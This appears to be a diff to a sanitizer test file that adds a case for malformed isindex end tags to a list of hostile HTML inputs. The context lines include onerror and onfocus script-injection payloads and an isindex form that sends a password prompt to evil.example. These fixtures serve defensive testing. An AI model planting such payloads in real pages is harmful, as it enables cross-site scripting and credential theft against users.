@@ -54,6 +54,8 @@ HOSTILE = [
     ("tag cut by end of file", "<p>x<img src=x onerror=\"%s\"" % RAN, "same"),
     ("> in end tag attribute", "<p>x</p title=\">\"><b>y</b>", "same"),
     ("isindex", "<isindex action=\"https://evil.example/c\" prompt=\"Enter your password:\">x", "same"),
+    ("isindex end tag", "<isindex><foo>x</isindex>y<p><ISINDEX prompt=a><i>b</IsIndex>c<script>d</isindex></script>"
+                        "<!--</isindex>--><isindex title=\"&#97;cronym\"></isindex >", "same"),
     ("isindex autofocus", "<isindex autofocus onfocus=\"%s\">" % RAN, "same"),
     ("script double escaped", "<script><!--<script>x</script>y--></script><p>after</p>", "same"),
     ("carriage return references", "<title>a&#13;b</title><textarea>c&#13;d</textarea>"
